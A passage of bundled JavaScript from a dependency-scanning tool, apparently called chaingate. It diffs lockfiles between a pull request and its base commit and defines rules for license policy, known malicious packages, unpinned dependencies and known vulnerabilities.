              const denied = spdx.deniedBy(license.expression, deny);
              verdict = denied.length === 0 ? null : { status: "fail", message: `${label} is licensed ${license.expression}${from}: ${denied.join(", ")} ${denied.length === 1 ? "is" : "are"} denied by the license policy`, location: where };
            }
          } catch (error) {
            verdict = { status: "unknown", message: `${label}: license ${license.expression}${from} could not be compared with the policy (${error.message})`, location: where };
          }
          if (verdict) results.push(verdict);
        }
      }
    });
    for (const [file, packages] of noData) {
      results.push({
        status: "unknown",
        message: `${packages.length} package${packages.length === 1 ? "" : "s"} in ${file} ${packages.length === 1 ? "has" : "have"} an unknown license (${whyNoLicense(formats.get(file) ?? "the file", licenses)}): ${listSome(packages.map(packageLabel))}`,
        location: locationOf(packages[0].location),
        ...!licenses.github.read && licenses.github.permission ? { permission: licenses.github.permission } : {}
      });
    }
    return results;
  }
});

// src/pull-request/dependency-diff.ts
import path5 from "node:path";

// src/pull-request/git.ts
var MAX_OUTPUT = 256 * 1024 * 1024;
function git(cwd, args) {
  const { execFile } = process.getBuiltinModule("node:child_process");
  return new Promise((resolve) => {
    execFile(
      "git",
      ["-c", "core.quotepath=off", ...args],
      { cwd, encoding: "buffer", maxBuffer: MAX_OUTPUT, windowsHide: true, env: { ...process.env, GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0", LC_ALL: "C" } },
      (error, stdout, stderr) => {
        const code = error ? typeof error.code === "number" ? error.code : null : 0;
        resolve({ ok: !error, stdout: stdout ?? Buffer.alloc(0), stderr: (stderr ?? Buffer.alloc(0)).toString("utf8").trim(), code });
      }
    );
  });
}
function isCommitId(value) {
  return typeof value === "string" && /^(?:[0-9a-f]{40}|[0-9a-f]{64})$/.test(value);
}

// src/pull-request/dependency-diff.ts
var DIFF_EVENTS = ["pull_request", "merge_group"];
var MAX_LOCKFILE_BYTES = 128 * 1024 * 1024;
var INSTALLED = /(^|\/)(node_modules|vendor|\.venv|venv|site-packages|\.tox|target|bower_components)\//;
function baseCommitOf(event) {
  if (!event || !DIFF_EVENTS.includes(event.name)) return null;
  const record3 = (value) => typeof value === "object" && value !== null && !Array.isArray(value) ? value : void 0;
  const sha = event.name === "merge_group" ? record3(event.payload.merge_group)?.base_sha : record3(record3(event.payload.pull_request)?.base)?.sha;
  return isCommitId(sha) ? sha : void 0;
}
var dependencyDiffFact = defineFact("pull-request.dependency-diff", async (ctx) => {
  const base = baseCommitOf(ctx.event);
  if (base === null) {
    const what2 = "dependency review compares a pull request with its base (events pull_request and merge_group)";
    return ctx.event ? unknownFact("other-event", `${what2}; event was ${ctx.event.name}`) : unknownFact("not-applicable", `${what2}; no event was given`);
  }
  if (base === void 0) return unknownFact("not-available", `the ${ctx.event.name} event names no base commit (pull_request.base.sha / merge_group.base_sha)`);
  const head = await ctx.get(inventoryFact);
  if (!head.known) return head;
  try {
    const outcome = await diffAgainstBase(ctx.workspace, base, head.value, ctx.event.name);
    return typeof outcome === "string" ? unknownFact("not-available", outcome) : known(outcome);
  } catch (error) {
    return unknownFact("not-available", `could not read the base commit ${base.slice(0, 12)} from the checkout: ${errorMessage(error)}`);
  }
});
async function diffAgainstBase(workspace, base, head, event) {
  const cwd = workspace.root;
  const present = await git(cwd, ["cat-file", "-e", `${base}^{commit}`]);
  if (!present.ok) return missingBase(cwd, base, present.stderr);
  const listing = await git(cwd, ["ls-tree", "-r", "-z", "--name-only", base]);
  if (!listing.ok) return `git ls-tree ${base.slice(0, 12)} failed: ${listing.stderr || `exit ${listing.code}`}`;
  const baseFiles = listing.stdout.toString("utf8").split("\0").filter((file) => file !== "" && !INSTALLED.test(file) && !workspace.isIgnored(file));
  const baseCandidates = claimed(baseFiles);
  const baseTexts = /* @__PURE__ */ new Map();
  const show = async (file) => {
    if (!baseTexts.has(file)) {
      const result = await git(cwd, ["show", `${base}:./${file}`]);
      baseTexts.set(file, result.ok ? result.stdout.toString("utf8") : void 0);
    }
    return baseTexts.get(file);
  };
  const changedMemo = /* @__PURE__ */ new Map();
  const changed = async (file) => {
    if (!changedMemo.has(file)) {
      const before = await show(file);
      const now = workspace.readText(file, MAX_LOCKFILE_BYTES);
      changedMemo.set(file, before === void 0 ? now.ok : !now.ok || now.text !== before);
    }
    return changedMemo.get(file);
  };
  const headByLocation = /* @__PURE__ */ new Map();
  for (const pkg of head.packages) headByLocation.set(pkg.location.path, [...headByLocation.get(pkg.location.path) ?? [], pkg]);
  const candidates = /* @__PURE__ */ new Set([...baseCandidates.keys(), ...head.files.map((file) => file.path)]);
  const locations = /* @__PURE__ */ new Set([...candidates, ...headByLocation.keys()]);
  let includedChanged = false;
  for (const location of headByLocation.keys()) if (!candidates.has(location) && await changed(location)) includedChanged = true;
  const baseByLocation = /* @__PURE__ */ new Map();
  const parsed = /* @__PURE__ */ new Set();
  const unparsed = /* @__PURE__ */ new Set();
  for (const [file, reader] of baseCandidates) {
    if (!includedChanged && !await changed(file)) continue;
    const text = await show(file);
    if (text === void 0) continue;
    const packages = await readAtBase(reader, file, text, show);
    if (packages === null) {
      unparsed.add(file);
      continue;
    }
    parsed.add(file);
    for (const pkg of packages) baseByLocation.set(pkg.location.path, [...baseByLocation.get(pkg.location.path) ?? [], pkg]);
  }
  for (const location of baseByLocation.keys()) locations.add(location);
  const diff = { event, base, added: [], removed: [], changed: [], licenseChanges: [], introduced: /* @__PURE__ */ new Set(), changedFiles: [], uncompared: [] };
  for (const location of [...locations].sort()) {
    if (!await changed(location)) continue;
    diff.changedFiles.push(location);
    const known2 = parsed.has(location) || baseByLocation.has(location) || await show(location) === void 0;
    if (!known2 || unparsed.has(location)) diff.uncompared.push(location);
    compareFile(known2 && !unparsed.has(location) ? baseByLocation.get(location) ?? [] : [], headByLocation.get(location) ?? [], diff);
  }
  return diff;
}
async function missingBase(cwd, base, stderr) {
  const inside = await git(cwd, ["rev-parse", "--is-inside-work-tree"]);
  if (!inside.ok) return `the checkout is not a git repository (${inside.stderr || "git rev-parse failed"}), so the base commit ${base.slice(0, 12)} cannot be read`;
  const shallow = await git(cwd, ["rev-parse", "--is-shallow-repository"]);
  const isShallow = shallow.ok && shallow.stdout.toString("utf8").trim() === "true";
  const fix = "set `fetch-depth: 0` on actions/checkout, or fetch the base commit before chaingate runs (`git fetch --no-tags --depth=1 origin <base sha>`)";
  return isShallow ? `the base commit ${base.slice(0, 12)} is not in this shallow clone (actions/checkout fetches one commit by default): ${fix}` : `the base commit ${base.slice(0, 12)} is not in the checkout (${stderr || "git cat-file failed"}): ${fix}`;
}
function claimed(files) {
  const present = new Set(files);
  const out = /* @__PURE__ */ new Map();
  for (const file of files) {
    const directory = path5.posix.dirname(file);
    for (const reader of readersFor(path5.posix.basename(file))) {
      const superseded = reader.supersededBy?.some((lockfile) => present.has(directory === "." ? lockfile : `${directory}/${lockfile}`));
      if (!superseded && !out.has(file)) out.set(file, reader);
    }
  }
  return out;
}
async function readAtBase(reader, file, text, show) {
  const directory = path5.posix.dirname(file);
  const siblings = /* @__PURE__ */ new Map();
  const read = await reader.load();
  for (let round = 0; round < 8; round += 1) {
    const missing = /* @__PURE__ */ new Set();
    const input2 = {
      path: file,
      text,
      sibling(relative) {
        const target2 = path5.posix.normalize(directory === "." ? relative : `${directory}/${relative}`);
        if (target2.startsWith("..")) return void 0;
        if (!siblings.has(target2)) missing.add(target2);
        return siblings.get(target2);
      }
    };
    let outcome;
    try {
      outcome = read(input2);
    } catch {
      if (missing.size === 0) return null;
      outcome = emptyOutcome();
    }
    if (missing.size === 0) return outcome.problems.length > 0 && outcome.packages.length === 0 ? null : outcome.packages;
    for (const target2 of missing) siblings.set(target2, await show(target2));
  }
  return null;
}
var nameKey = (pkg) => `${pkg.ecosystem}\0${pkg.name}`;
function compareFile(basePackages, headPackages, diff) {
  const group = (packages) => {
    const byName = /* @__PURE__ */ new Map();
    for (const pkg of packages) {
      const versions = byName.get(nameKey(pkg)) ?? /* @__PURE__ */ new Map();
      if (!versions.has(pkg.version ?? "")) versions.set(pkg.version ?? "", pkg);
      byName.set(nameKey(pkg), versions);
    }
    return byName;
  };
  const before = group(basePackages);
  const after = group(headPackages);
  const introducedVersions = /* @__PURE__ */ new Map();
  for (const [name, versions] of after) {
    const old = before.get(name) ?? /* @__PURE__ */ new Map();
    const added = [...versions.entries()].filter(([version]) => !old.has(version));
    const removed = [...old.entries()].filter(([version]) => !versions.has(version));
    introducedVersions.set(name, new Set(added.map(([version]) => version)));
    const pairs2 = Math.min(added.length, removed.length);
    for (let index = 0; index < pairs2; index += 1) {
      const change = { from: removed[index][1], to: added[index][1] };
      diff.changed.push(change);
      if ((change.from.license ?? null) !== (change.to.license ?? null)) diff.licenseChanges.push({ package: change.to, from: change.from.license ?? null, to: change.to.license ?? null });
    }
    diff.added.push(...added.slice(pairs2).map(([, pkg]) => pkg));
    diff.removed.push(...removed.slice(pairs2).map(([, pkg]) => pkg));
    for (const [version, pkg] of versions) {
      const was = old.get(version);
      if (was && (was.license ?? null) !== (pkg.license ?? null)) diff.licenseChanges.push({ package: pkg, from: was.license ?? null, to: pkg.license ?? null });
    }
  }
  for (const [name, versions] of before) if (!after.has(name)) diff.removed.push(...versions.values());
  for (const pkg of headPackages) if (introducedVersions.get(nameKey(pkg))?.has(pkg.version ?? "")) diff.introduced.add(packageKey(pkg));
}
var reviewed = (pkg) => ({
  ecosystem: pkg.ecosystem,
  name: pkg.name,
  version: pkg.version,
  path: pkg.location.path,
  scope: pkg.scope,
  ...pkg.purl ? { purl: pkg.purl } : {},
  ...pkg.license ? { license: pkg.license } : {}
});
function summariseDiff(diff) {
  return {
    event: diff.event,
    base: diff.base,
    added: diff.added.map(reviewed),
    removed: diff.removed.map(reviewed),
    changed: diff.changed.map(({ from, to }) => ({ ecosystem: to.ecosystem, name: to.name, path: to.location.path, from: from.version, to: to.version, ...to.purl ? { purl: to.purl } : {} })),
    licenseChanges: diff.licenseChanges.map((change) => ({ ecosystem: change.package.ecosystem, name: change.package.name, version: change.package.version, path: change.package.location.path, from: change.from, to: change.to })),
    changedFiles: diff.changedFiles,
    uncompared: diff.uncompared
  };
}

// src/rules/dependencies/malicious-package.ts
var maliciousPackage = defineRule({
  meta: {
    id: "malicious-package",
    area: "dependencies",
    severity: "critical",
    title: "Known malicious package in the dependencies",
    rationale: "A package published to steal credentials or plant a backdoor runs its payload when it is installed (install scripts) or imported: on developer machines and in CI, with their secrets. No severity threshold applies.",
    remediation: "Remove the package and the dependency that pulls it in, then treat every machine and CI run that installed it as compromised: rotate the secrets it could read and review what it could publish.",
    references: ["SSC (dependencies: malicious packages)", "https://github.com/ossf/malicious-packages", "https://docs.github.com/en/code-security/security-advisories/working-with-global-security-advisories-from-the-github-advisory-database/about-the-github-advisory-database#malware-advisories"],
    access: { token: "none", note: "offline with a local OSV snapshot (--advisories DIR); GitHub's advisory database and the OSV API need network, no token" }
  },
  needs: [inventoryFact],
  uses: [advisoriesFact, dependencyDiffFact, imageScansFact],
  defaultOptions: {},
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    return withImages(workspaceResults(ctx, inventory), imageResults(ctx.fact(imageScansFact)));
  }
});
function workspaceResults(ctx, inventory) {
  const advisories = ctx.fact(advisoriesFact);
  const unseen = nothingToCheck(inventory, advisories);
  if (unseen) return [unseen];
  if (!advisories.known) return [];
  const report = advisories.value;
  const diff = ctx.fact(dependencyDiffFact);
  const paths = new DependencyPaths(inventory);
  const results = [];
  for (const match of report.matches) {
    if (!match.advisory.malicious || !judged(match.package)) continue;
    const pkg = match.package;
    const chain = paths.pathTo(pkg);
    const introduced = diff.known ? diff.value.introduced.has(packageKey(pkg)) : null;
    results.push({
      status: "fail",
      severity: "critical",
      message: `${packageLabel(pkg)} (${pkg.ecosystem}, ${pkg.scope}, ${describePath(pkg, chain)}) is a known malicious package: ${idsLabel(match)}${match.advisory.summary ? ` \u2014 ${match.advisory.summary}` : ""}`,
      ...matchFields(match, chain, introduced, report)
    });
  }
  results.push(...uncheckedResults(report));
  if (results.length === 0) results.push({ status: "pass", message: `no known malicious package among ${report.checked} package${report.checked === 1 ? "" : "s"} checked against ${sourceLabel(report)}` });
  return results;
}
function imageResults(fact) {
  if (!fact.known) return [{ status: "unknown", message: `the images named by the run were not checked for malicious packages: ${fact.reason}`, ...fact.permission ? { permission: fact.permission } : {} }];
  const results = [];
  for (const scan of fact.value.images) {
    if (!scan.ok) continue;
    const malicious = scan.report.matches.filter((match) => match.advisory.malicious);
    for (const match of malicious) {
      results.push({ status: "fail", severity: "critical", message: `image ${scan.reference}: ${imagePackageLabel(match.package)} is a known malicious package: ${idsLabel(match)}${match.advisory.summary ? ` \u2014 ${match.advisory.summary}` : ""}`, ...imageMatchFields(scan, match, void 0) });
    }
    if (malicious.length === 0 && scan.report.unchecked.length === 0 && scan.problems.length === 0) {
      results.push({ status: "pass", message: `image ${scan.reference} (${scan.platform}): no known malicious package among ${scan.packages} package${scan.packages === 1 ? "" : "s"} checked against ${sourceLabel(scan.report)}`, details: { image: scan.reference, imageDigest: scan.digest } });
    }
  }
  results.push(...imageUnknowns(fact.value.images.map((scan) => ({ scan, label: `image ${scan.reference}` }))));
  return results;
}

// src/rules/dependencies/unpinned-dependencies.ts
var PER_PACKAGE_MANIFESTS = /* @__PURE__ */ new Set(["maven-pom"]);
var MAVEN_FLOATING = /^([[(].*[\])]|LATEST|RELEASE)$/;
var COMMIT = /(^|[#@=/])[0-9a-f]{40}([0-9a-f]{24})?($|[^0-9a-f])/i;
var URL_HASH = /#(sha256|sha384|sha512|md5|sha1)=[0-9a-f]+/i;
function describeDeclared(pkg) {
  if (pkg.declared === void 0 || pkg.declared.trim() === "") return `${pkg.name} is declared without a version`;
  return `${pkg.name} is declared as "${pkg.declared}"`;
}
var unpinnedDependencies = defineRule({
  meta: {
    id: "unpinned-dependencies",
    area: "dependencies",
    severity: "medium",
    title: "Dependency not pinned to an exact version, commit or hash",
    rationale: "What a range, a branch or an unhashed URL installs is decided when the build runs: a new release, a moved branch or a replaced file (a compromised maintainer account, a typo-squat that won a resolution) reaches the build without a change in the repository. A lockfile, a commit or a hash makes the inputs reviewable and reproducible.",
    remediation: "Commit the lockfile the package manager writes (`npm install`, `uv lock`, `poetry lock`, `pip-compile --generate-hashes`\u2026); pin git dependencies to a full commit; give URL dependencies a hash.",
    references: ["SLSA Build L3 (hermetic, pinned inputs)", "OSPS-BR-05.01", "Scorecard: Pinned-Dependencies", "pip: secure installs (--require-hashes)"],
    access: { token: "none" }
  },
  needs: [inventoryFact],
  defaultOptions: { "require-hashes": false },
  strictOptions: { "require-hashes": true },
  optionsSchema: {
    type: "object",
    properties: { "require-hashes": { type: "boolean", description: "every requirement of a requirements file must carry --hash (pip hash-checking mode)" } }
  },
  evaluate(ctx) {
    const fact = ctx.need(inventoryFact);
    const byFile = /* @__PURE__ */ new Map();
    for (const pkg of fact.packages) {
      if (pkg.ecosystem === "GitHub Actions") continue;
      const list = byFile.get(pkg.location.path);
      if (list) list.push(pkg);
      else byFile.set(pkg.location.path, [pkg]);
    }
    const results = [];
    for (const file of fact.files) {
      const packages = byFile.get(file.path);
      if (!packages || packages.length === 0) continue;
      results.push(...judgeFile(file, packages, ctx.options));
    }
    return results;
  }
});
function judgeFile(file, packages, options) {
  const external = packages.filter((pkg) => pkg.source !== "workspace" && pkg.source !== "path");
  if (file.declaredOnly && !PER_PACKAGE_MANIFESTS.has(file.format)) {
    if (external.length === 0) return [];
    const first = external[0];
    return [
      {
        status: "fail",
        message: `${file.path} declares ${external.length} dependenc${external.length === 1 ? "y" : "ies"} and no lockfile pins ${external.length === 1 ? "it" : "them"}: ${listSome(external.map((pkg) => pkg.declared ? `${pkg.name} ${pkg.declared}` : pkg.name))}`,
        location: locationOf(first.location)
      }
    ];
  }
  const results = [];
  for (const pkg of external) {
    if (pkg.source === "git") {
      if (!COMMIT.test(pkg.resolved ?? pkg.declared ?? "")) {
        results.push({ status: "fail", severity: "high", message: `${pkg.name} comes from git (${pkg.resolved ?? pkg.declared ?? "no URL recorded"}) without a commit: a branch or tag can be moved`, location: locationOf(pkg.location) });
      }
      continue;
    }
    if (pkg.source === "url") {
      if ((pkg.hashes ?? []).length === 0 && !URL_HASH.test(pkg.resolved ?? "")) {
        results.push({ status: "fail", severity: "high", message: `${pkg.name} is downloaded from ${pkg.resolved ?? "a URL"} without a hash: the file behind the URL can be replaced`, location: locationOf(pkg.location) });
      }
      continue;
    }
    if (pkg.version === null) {
      const declared = pkg.declared ?? "";
      if (file.format === "maven-pom" && !MAVEN_FLOATING.test(declared.trim())) {
        results.push({ status: "unknown", message: `${pkg.name}: the version${declared ? ` "${declared}"` : ""} is managed outside this pom.xml (a parent, a BOM or a property chaingate did not resolve); whether it is exact is not known`, location: locationOf(pkg.location) });
      } else if (declared.includes("${")) {
        results.push({ status: "unknown", message: `${pkg.name}: the version "${declared}" is a property chaingate did not resolve; whether it is exact is not known`, location: locationOf(pkg.location) });
      } else {
        results.push({ status: "fail", message: `${describeDeclared(pkg)}: the version is chosen at install time`, location: locationOf(pkg.location) });
      }
    }
  }
  if (options["require-hashes"] && file.format === "requirements") {
    const unhashed = external.filter((pkg) => pkg.source === "registry" && (pkg.hashes ?? []).length === 0);
    if (unhashed.length > 0) {
      results.push({
        status: "fail",
        message: `${file.path}: ${unhashed.length} of ${external.length} requirement${external.length === 1 ? " has" : "s have"} no --hash (the policy requires hashes): ${listSome(unhashed.map(packageLabel))}`,
        location: locationOf(unhashed[0].location),
        fix: "pip-compile --generate-hashes (or uv pip compile --generate-hashes) and install with --require-hashes"
      });
    }
  }
  return results;
}

// src/rules/dependencies/vulnerable-dependencies.ts
var SHIPPED = ["runtime", "optional", "unknown"];
function gatedScopes(option, packages) {
  if (option) return { scopes: option, why: "the scopes option" };
  const ships = packages.some((pkg) => judged(pkg) && SHIPPED.includes(pkg.scope));
  return ships ? { scopes: SHIPPED, why: "default: runtime, optional and unknown" } : { scopes: [...SHIPPED, "dev"], why: "default: every scope, the inventory having only dev packages" };
}
var vulnerableDependencies = defineRule({
  meta: {
    id: "vulnerable-dependencies",
    area: "dependencies",
    severity: "high",
    title: "Dependency with a known vulnerability",
    rationale: "A dependency with a published vulnerability is the easiest way into a build or a product: the advisory tells an attacker what to do. Gating precisely (severity, fix available, scope, what the pull request introduced) keeps the gate meaningful instead of noisy.",
    remediation: "Upgrade to a fixed version (given in the finding), or remove the dependency. Where the vulnerable code cannot be reached, publish a VEX statement (`not_affected` with a justification) or add a waiver with a reason and an expiry.",
    references: ["SSC (dependencies: known vulnerabilities)", "OSPS-VM-05.03", "SLSA (dependency tracking)", "https://ossf.github.io/osv-schema/", "dependency-review-action: fail-on-severity, fail-on-scopes"],
    access: { token: "none", note: "offline with a local OSV snapshot (--advisories DIR); GitHub's advisory database and the OSV API need network, no token (a token raises GitHub's rate limit)" }
  },
  needs: [inventoryFact],
  uses: [advisoriesFact, dependencyDiffFact, imageScansFact],
  defaultOptions: { "fail-on": "low", "only-fixed": false, gate: "introduced" },
  strictOptions: { scopes: ["runtime", "dev", "optional", "unknown"], "max-age-days": 90 },
  optionsSchema: {
    type: "object",
    properties: {
      "fail-on": { enum: [...SEVERITY_WORDS], description: "lowest severity that fails (GitHub's words), default low" },
      "only-fixed": { type: "boolean", description: "fail only when a fixed version exists (default false)" },
      "max-age-days": { type: "integer", minimum: 0, description: "an unfixed advisory published longer ago than this fails whatever the other options say" },
      scopes: { type: "array", items: { enum: ["runtime", "dev", "optional", "unknown"] }, uniqueItems: true, description: "scopes gated (default runtime, optional, unknown; every scope when there are only dev packages)" },
      epss: { type: "number", minimum: 0, maximum: 1, description: "fail only at or above this EPSS probability, where the source gives EPSS" },
      gate: { enum: ["introduced", "all"], description: "in a pull request: only what the change introduced (default), or every package" }
    }
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const { scopes, why } = gatedScopes(ctx.options.scopes, inventory.packages);
    return withImages(workspaceResults2(ctx, inventory, scopes, why), imageResults2(ctx.fact(imageScansFact), ctx.options, scopes, why, ctx.now));
  }
});
function workspaceResults2(ctx, inventory, scopes, why) {
  const advisories = ctx.fact(advisoriesFact);
  const unseen = nothingToCheck(inventory, advisories);
  if (unseen) return [unseen];
  if (!advisories.known) return [];
  const options = ctx.options;
  const report = advisories.value;
  const paths = new DependencyPaths(inventory);
  const view = introducedView(options.gate, ctx.fact(dependencyDiffFact));
  const results = [];
  for (const match of report.matches) {
    if (match.advisory.malicious || !judged(match.package)) continue;
    const pkg = match.package;
    const chain = paths.pathTo(pkg);
    const introduced = view.keys ? view.keys.has(packageKey(pkg)) : null;
    const fields = matchFields(match, chain, introduced, report);
    const severity = matchSeverity(match);
    const fixed = match.fixedVersions.length > 0 ? `fixed in ${listSome(match.fixedVersions, 3)}` : "no fixed version published";
    const head = `${packageLabel(pkg)} (${pkg.ecosystem}, ${pkg.scope}, ${describePath(pkg, chain)}): ${advisoryLabel(match)}; ${fixed}`;
    const notGated = (reason) => void results.push({ status: "pass", message: `${head}; not gated: ${reason}`, severity, ...fields });
    if (!scopes.includes(pkg.scope)) {
      notGated(`${pkg.scope} scope (${why})`);
      continue;
    }
    if (view.keys && !introduced) {
      notGated("already in the base, not introduced by this change (gate: introduced)");
      continue;
    }
    const { overdue: overdue2, below } = gateOutcome(match, options, ctx.now);
    if (below.length > 0) {
      notGated(below.join("; "));
      continue;
    }
    const message2 = `${head}${overdue2 ? `; ${overdue2}` : ""}`;
    if (view.unavailable) results.push({ status: "unknown", message: `${message2}; could not tell whether this change introduced it: ${view.unavailable}`, severity, ...fields });
    else results.push({ status: "fail", message: message2, severity, ...fields });
  }
  results.push(...uncheckedResults(report, (pkg) => scopes.includes(pkg.scope)));
  if (results.length === 0) {
    const checked = report.checked;
    results.push({ status: "pass", message: `no known vulnerability in ${checked} package${checked === 1 ? "" : "s"} checked against ${sourceLabel(report)}` });
  }
  return results;
}
function imageResults2(fact, options, scopes, why, now) {
  if (!fact.known) return [{ status: "unknown", message: `the images named by the run were not checked for known vulnerabilities: ${fact.reason}`, ...fact.permission ? { permission: fact.permission } : {} }];
  const results = [];
  for (const scan of fact.value.images) {
    if (!scan.ok) continue;
    const label = `image ${scan.reference}`;
    let reported = 0;
    for (const match of scan.report.matches) {
      if (match.advisory.malicious) continue;
      reported += 1;
      const pkg = match.package;
      const fields = imageMatchFields(scan, match, void 0);
      const severity = matchSeverity(match);
      const head = `${label}: ${imagePackageLabel(pkg)}: ${advisoryLabel(match)}; ${imageFixState(match)}`;
      if (!scopes.includes(pkg.scope)) {
        results.push({ status: "pass", message: `${head}; not gated: ${pkg.scope} scope (${why})`, severity, ...fields });
        continue;
      }
      const { overdue: overdue2, below } = gateOutcome(match, options, now);
      if (below.length > 0) results.push({ status: "pass", message: `${head}; not gated: ${below.join("; ")}`, severity, ...fields });
      else results.push({ status: "fail", message: `${head}${overdue2 ? `; ${overdue2}` : ""}`, severity, ...fields });
    }
    if (reported === 0 && scan.report.unchecked.length === 0 && scan.problems.length === 0) {
      results.push({ status: "pass", message: `${label} (${scan.platform}${scan.distro ? `, ${scan.distro}` : ""}): no known vulnerability in ${scan.packages} package${scan.packages === 1 ? "" : "s"} checked against ${sourceLabel(scan.report)}`, details: { image: scan.reference, imageDigest: scan.digest } });
    }
  }
  results.push(...imageUnknowns(fact.value.images.map((scan) => ({ scan, label: `image ${scan.reference}` })), (pkg) => scopes.includes(pkg.scope)));
  return results;
}

// src/rules/dependencies/index.ts
var dependenciesRules = [dependencyInventory, unpinnedDependencies, dependencyConfusionRisk, licensePolicy, vulnerableDependencies, maliciousPackage];

// src/rules/code/expired-waiver.ts
var EXPIRED_WAIVER_RULE_ID = "expired-waiver";
var expiredWaiver = defineRule({
  meta: {
    id: EXPIRED_WAIVER_RULE_ID,
    area: "code",
    severity: "medium",
    title: "Expired waiver",
    rationale: "A waiver is a time-boxed exception; once it expires, the finding it hid counts again and the waiver should be renewed or removed.",
    remediation: "Fix the finding the waiver covered, or extend the waiver with a new reason and date.",
    references: ["OSPS-GV-01"],
    access: { token: "none" }
  },
  needs: [],
  defaultOptions: {},
  // The engine emits one finding per expired waiver; as a rule it has nothing to evaluate.
  evaluate: () => [{ status: "pass", message: "no expired waivers" }]
});

// src/rules/index.ts
var allRules = [...accountsRules, ...codeRules, ...buildRules, ...artifactsRules, ...dependenciesRules, expiredWaiver];
function ruleById(id) {
  return allRules.find((rule) => rule.meta.id === id);
}

export {
  ApiFault,
  classifyApiError,
  unknownFact,
  isGroupScoped,
  listAll,
  MAX_WORKFLOW_BYTES,
  usesValues,
  workflowPrescanFact,
  inventoryFact,
  advisoriesFact,
  SEVERITIES,
  AREAS,
  severityRank,
  atLeast,
  EXPIRED_WAIVER_RULE_ID,
  licensesFact,
  dependencyDiffFact,
  summariseDiff,
  manifestImages,
  parseImageRef,
  OFFLINE_IMAGE_REASON,
  allRules,
  ruleById
};
